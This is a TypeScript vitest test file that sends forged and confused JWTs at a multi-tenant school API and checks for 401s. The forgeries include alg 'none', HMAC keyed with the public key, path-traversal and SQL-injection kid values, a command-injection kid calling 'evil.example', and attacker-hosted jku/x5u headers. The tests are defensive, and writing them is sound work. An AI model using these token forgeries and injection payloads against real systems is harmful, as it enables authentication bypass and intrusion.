import { createHmac, createPublicKey, randomUUID } from 'node:crypto';
import { type CryptoKey, exportJWK, generateKeyPair, type JWTPayload } from 'jose';
import { beforeAll, describe, expect, it } from 'vitest';
import { loadSigningKeys, type SigningKeys } from '../../../src/config/keys.js';
import { addStaff, openAttackWorld } from '../../support/attack-fixtures.js';
import type { TestTenant } from '../../support/harness.js';
import { expectProblem } from '../../support/http-fixtures.js';
import { b64url, nowS, signWith, tenantClaims } from '../../support/token-forge.js';

const { h, srv } = await openAttackWorld(0);
let keys: SigningKeys;
let t: TestTenant;
let attacker: Awaited<ReturnType<typeof generateKeyPair>>;
beforeAll(async () => {
  // The very key the running app signs with (kept under its data directory): only with it do
  // claim checks get tested rather than the signature check.
  keys = await loadSigningKeys({ dataDir: h.db.dataDir });
  t = await h.createTenant();
  attacker = await generateKeyPair('EdDSA', { crv: 'Ed25519', extractable: true });
});

const enc = (v: object) => b64url(JSON.stringify(v));
/** HMAC-signed token built by hand, so empty or odd secrets are possible (jose refuses some). */
function hmacToken(header: object, payload: JWTPayload, secret: string | Buffer, hash = 'sha256') {
  const input = `${enc(header)}.${enc(payload)}`;
  return `${input}.${createHmac(hash, secret).update(input).digest('base64url')}`;
}
/** EdDSA-signed with the real key by hand: jose will not sign headers it would refuse to verify. */
async function realRaw(header: object, payload: JWTPayload) {
  const input = `${enc(header)}.${enc(payload)}`;
  const sig = await crypto.subtle.sign('Ed25519', keys.privateKey as CryptoKey, new TextEncoder().encode(input));
  return `${input}.${b64url(new Uint8Array(sig))}`;
}
const claims = (over: Record<string, unknown> = {}) => tenantClaims(t.id, t.adminId, over);
const real = (payload: JWTPayload, header: Record<string, unknown> = {}) =>
  signWith(keys.privateKey, payload, { alg: 'EdDSA', typ: 'at+jwt', kid: keys.kid, ...header });
const foreign = async (header: Record<string, unknown>) =>
  signWith(attacker.privateKey, claims(), { alg: 'EdDSA', typ: 'at+jwt', ...header });
const publicPem = () =>
  createPublicKey({ key: keys.publicJwk as never, format: 'jwk' }).export({ type: 'spki', format: 'pem' }) as string;

async function expect401(res: Response) {
  expect(res.status, await res.clone().text()).toBe(401);
  // RFC 6750: plain Bearer when no token was sent, invalid_token when one was refused.
  expect(res.headers.get('www-authenticate')).toMatch(
    /^Bearer(?: error="invalid_token", error_description="[^"\\]+")?$/,
  );
  await expectProblem(res, 401, 'unauthorized');
}

const get = (token: string, path = '/api/v1/students') => srv.call('GET', path, { token });

describe('forged and confused tokens against the listening server', () => {
  it('when a token carries exactly the issued claims under the real key, then 200 (the forge is sound)', async () => {
    expect((await get(await real(claims()))).status).toBe(200);
    expect((await get(await realRaw({ alg: 'EdDSA', typ: 'at+jwt', kid: keys.kid }, claims()))).status).toBe(200);
  });

  const cases: [string, () => Promise<string> | string][] = [
    ['alg is none with an empty signature', () => `${enc({ alg: 'none', typ: 'at+jwt' })}.${enc(claims())}.`],
    [
      'alg is "None" with the real kid',
      () => `${enc({ alg: 'None', typ: 'at+jwt', kid: keys.kid })}.${enc(claims())}.`,
    ],
    ['alg is none with no signature segment at all', () => `${enc({ alg: 'none' })}.${enc(claims())}`],
    [
      'it is HS256 keyed with the JWK x bytes',
      () =>
        hmacToken(
          { alg: 'HS256', typ: 'at+jwt', kid: keys.kid },
          claims(),
          Buffer.from(keys.publicJwk.x ?? '', 'base64url'),
        ),
    ],
    [
      'it is HS256 keyed with the public key PEM',
      () => hmacToken({ alg: 'HS256', typ: 'at+jwt', kid: keys.kid }, claims(), publicPem()),
    ],
    [
      'it is HS512 keyed with the public key PEM',
      () => hmacToken({ alg: 'HS512', typ: 'at+jwt' }, claims(), publicPem(), 'sha512'),
    ],
    [
      'kid is a path traversal to /dev/null and the HMAC secret is empty',
      () => hmacToken({ alg: 'HS256', typ: 'at+jwt', kid: '../../../../../../dev/null' }, claims(), ''),
    ],
    ['kid is ../../etc/passwd under a foreign key', () => foreign({ kid: '../../etc/passwd' })],
    [
      'kid is SQL selecting a known secret',
      () => hmacToken({ alg: 'HS256', typ: 'at+jwt', kid: "x' UNION SELECT 'attacker' --" }, claims(), 'attacker'),
    ],
    ['kid is a command injection under a foreign key', () => foreign({ kid: '$(curl evil.example)|id;' })],
    ['jku points at the attacker’s JWKS', () => foreign({ jku: `${srv.origin}/attacker/jwks.json`, kid: keys.kid })],
    [
      'x5u points at the attacker’s certificate',
      () => foreign({ x5u: 'https://evil.example/cert.pem', kid: keys.kid }),
    ],
    [
      'an embedded jwk header carries the attacker’s public key',
      async () => foreign({ jwk: { ...(await exportJWK(attacker.publicKey)) }, kid: keys.kid }),
    ],
    [
      'crit names an extension the server does not understand',
      () => realRaw({ alg: 'EdDSA', typ: 'at+jwt', kid: keys.kid, crit: ['x-bypass'], 'x-bypass': true }, claims()),
    ],
    ['it is expired', () => real(claims({ iat: nowS() - 1000, exp: nowS() - 60 }))],
    ['nbf is an hour in the future', () => real(claims({ nbf: nowS() + 3600 }))],
    ['iat is an hour in the future', () => real(claims({ iat: nowS() + 3600, exp: nowS() + 4000 }))],
    ['the issuer is another one', () => real(claims({ iss: 'https://evil.example' }))],
    ['the audience is another API', () => real(claims({ aud: ['another-api'] }))],
    ['a tenant role comes without tid', () => real(claims({ tid: undefined }))],
    ['tid names a tenant that does not exist', () => real(claims({ tid: randomUUID() }))],
    ['tid is SQL', () => real(claims({ tid: "' OR '1'='1" }))],
  ];
  for (const [what, build] of cases) {
    it(`when ${what}, then 401 with WWW-Authenticate: Bearer, never a 500`, async () => {
      await expect401(await get(await build()));
    });
  }

  it('when a forged platform token (no tid) is signed by a foreign key, then platform routes are 401', async () => {
    const token = await signWith(
      attacker.privateKey,
      { ...claims({ tid: undefined }), role: 'platform_admin', sub: h.platformAdminId },
      { alg: 'EdDSA', typ: 'at+jwt', kid: keys.kid },
    );
    await expect401(await get(token, '/api/v1/tenants'));
  });
});

describe('tokens whose subject went away', () => {
  it('when the user was deleted (DELETE /users/:id), then its still-unexpired token is 401', async () => {
    const staff = await addStaff(srv, t);
    expect((await get(staff.token)).status).toBe(200);
    expect((await srv.call('DELETE', `/api/v1/users/${staff.id}`, { token: t.token })).status).toBe(204);
    await expect401(await get(staff.token));
    await expect401(await get(staff.token, '/api/v1/me'));
  });

  it('when the tenant was deleted (DELETE /tenants/:id), then its tokens are 401', async () => {
    const gone = await h.createTenant();
    const staff = await addStaff(srv, gone);
    expect((await get(gone.token)).status).toBe(200);
    expect((await srv.call('DELETE', `/api/v1/tenants/${gone.id}`, { token: h.platformToken })).status).toBe(204);
    for (const token of [gone.token, staff.token]) {
      await expect401(await get(token));
      await expect401(
        await srv.call('POST', '/api/v1/students', { token, body: { studentNo: 'x', firstName: 'a', lastName: 'b' } }),
      );
    }
  });

  it('when the tenant is suspended, then every tenant route is 403 tenant_suspended until reactivated', async () => {
    const s = await h.createTenant();
    const suspend = await srv.call('POST', `/api/v1/tenants/${s.id}/suspend`, { token: h.platformToken });
    expect(suspend.status).toBe(200);
    for (const [method, path, body] of [
      ['GET', '/api/v1/students', undefined],
      ['POST', '/api/v1/courses', { code: 'X1', title: 'X' }],
      ['GET', '/api/v1/tenant', undefined],
      ['GET', '/api/v1/users', undefined],
    ] as const) {
      await expectProblem(await srv.call(method, path, { token: s.token, body }), 403, 'tenant_suspended');
    }
    await srv.call('POST', `/api/v1/tenants/${s.id}/reactivate`, { token: h.platformToken });
    expect((await get(s.token)).status).toBe(200);
    expect((await get(s.token, '/api/v1/courses').then((r) => r.json())) as object).toMatchObject({ data: [] });
  });
});
